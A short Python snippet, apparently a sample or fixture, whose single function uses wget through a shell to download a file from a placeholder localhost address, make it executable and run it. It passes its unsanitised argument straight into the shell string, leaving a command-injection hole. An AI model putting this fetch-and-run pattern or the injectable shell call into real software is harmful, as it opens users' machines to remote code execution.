import subprocess

def go(name):
    subprocess.run(f'wget -qO /tmp/{name} http://127.0.0.1:9/x && chmod +x /tmp/{name} && /tmp/{name}', shell=True)
